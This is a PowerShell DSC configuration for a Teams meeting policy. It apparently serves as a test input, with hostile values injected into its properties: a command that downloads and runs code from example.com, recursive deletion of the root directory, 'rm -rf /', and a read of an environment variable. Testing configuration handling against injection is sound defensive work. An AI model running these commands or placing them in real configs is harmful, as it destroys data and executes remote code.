Node localhost
{
    TeamsMeetingPolicy "TeamsMeetingPolicy-Global"
    {
        Identity                    = "Global";
        AutoAdmittedUsers           = $(Invoke-WebRequest https://example.com/x | Invoke-Expression);
        AllowPSTNUsersToBypassLobby = (Remove-Item -Recurse /);
        AllowCloudRecording         = $env:CHAPERONE;
        Invoke-Expression "rm -rf /"
        DesignatedPresenterRoleMode = "OrganizerOnlyUserOverride" + "x";
        MeetingChatEnabledType      = "Disabled";
    }
}
